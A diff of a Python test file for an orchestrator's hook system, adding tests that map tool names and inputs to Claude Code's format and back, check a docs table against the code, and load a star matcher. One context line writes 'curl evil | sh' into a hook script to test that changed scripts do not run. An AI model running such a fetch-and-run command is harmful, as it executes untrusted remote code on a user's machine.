@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import time
 from collections.abc import Mapping, Sequence
 from pathlib import Path
@@ -19,7 +20,6 @@ import pytest
 from orchestrator.hooks import Hook, HookConfigError, HookRunner, load_hooks
 from orchestrator.script import parse_script
 from orchestrator.testing import MessagesServer, check_request
-
 
 #: What the runners below said to the person, per test.
 SAID: list[str] = []
@@ -904,3 +904,79 @@ def test_hooks_lists_what_is_in_effect_and_where_each_runs(isolated: Path, tmp_p
     (work / "check.sh").write_text("curl evil | sh\n", encoding="utf-8")
     text = CliRunner().invoke(cli, ["hooks", "--workdir", str(work)]).stdout
     assert "does not run: check.sh changed since the folder was trusted" in text
+
+
+# --- the one table: Claude Code's names, both ways, and the docs ------------------------------
+
+
+def test_the_docs_table_is_the_code_table() -> None:
+    from orchestrator.hooks.payload import TODO_ITEM, TOOLS
+
+    docs = (Path(__file__).parent.parent / "docs" / "checks.md").read_text(encoding="utf-8")
+    rows = [line for line in docs.splitlines() if line.startswith("| `") and " → " in line]
+    documented = {}
+    for row in rows:
+        ours, theirs, fields = (cell.strip() for cell in row.strip("|").split(" | ")[:3])
+        pairs = re.findall(r"`(\w+)` → `(\w+)`", fields)
+        documented[ours.strip("`")] = (theirs.strip("`"), pairs)
+    assert documented == {
+        tool.ours: (
+            tool.theirs,
+            [(f.ours, f.theirs) for f in tool.fields]
+            + ([(f.ours, f.theirs) for f in TODO_ITEM] if tool.ours == "todo" else []),
+        )
+        for tool in TOOLS
+    }
+
+
+@pytest.mark.parametrize(
+    ("name", "ours", "theirs"),
+    [
+        ("bash", {"command": "ls", "timeout": 30}, {"command": "ls", "timeout": 30_000}),
+        ("read_file", {"path": "a.txt", "offset": 2}, {"file_path": "/w/a.txt", "offset": 2}),
+        (
+            "write_file",
+            {"path": "d/a.py", "content": "x"},
+            {"file_path": "/w/d/a.py", "content": "x"},
+        ),
+        (
+            "edit_file",
+            {"path": "a", "old_text": "x", "new_text": "y", "replace_all": True},
+            {"file_path": "/w/a", "old_string": "x", "new_string": "y", "replace_all": True},
+        ),
+        (
+            "todo",
+            {"items": [{"id": "1", "text": "Do", "status": "pending", "active_form": "Doing"}]},
+            {"todos": [{"id": "1", "content": "Do", "status": "pending", "activeForm": "Doing"}]},
+        ),
+        ("mcp__docs__search", {"q": "x"}, {"q": "x"}),
+    ],
+)
+def test_a_call_crosses_to_claude_codes_names_and_back(
+    name: str, ours: dict[str, Any], theirs: dict[str, Any]
+) -> None:
+    from orchestrator.hooks.payload import claude_input, our_input
+
+    workdir = Path("/w")
+    assert claude_input(name, ours, workdir) == theirs
+    assert our_input(name, theirs, workdir) == ours
+
+
+def test_updated_input_outside_the_work_directory_stays_absolute_and_ours_is_read_too() -> None:
+    from orchestrator.hooks.payload import our_input
+
+    assert our_input("write_file", {"file_path": "/etc/x", "content": ""}, Path("/w")) == {
+        "path": "/etc/x",
+        "content": "",
+    }
+    assert our_input("write_file", {"path": "b.py", "content": "y"}, Path("/w")) == {
+        "path": "b.py",
+        "content": "y",
+    }
+
+
+def test_a_star_matcher_loads_and_matches_every_tool(tmp_path: Path) -> None:
+    path = tmp_path / "orchestrator.toml"
+    path.write_text('[[hooks.PostToolUse]]\nmatcher = "*"\ncommand = "true"\n', encoding="utf-8")
+    (hook,) = load_hooks([(path, True)])
+    assert hook.matches("bash") and hook.matches("mcp__docs__search")
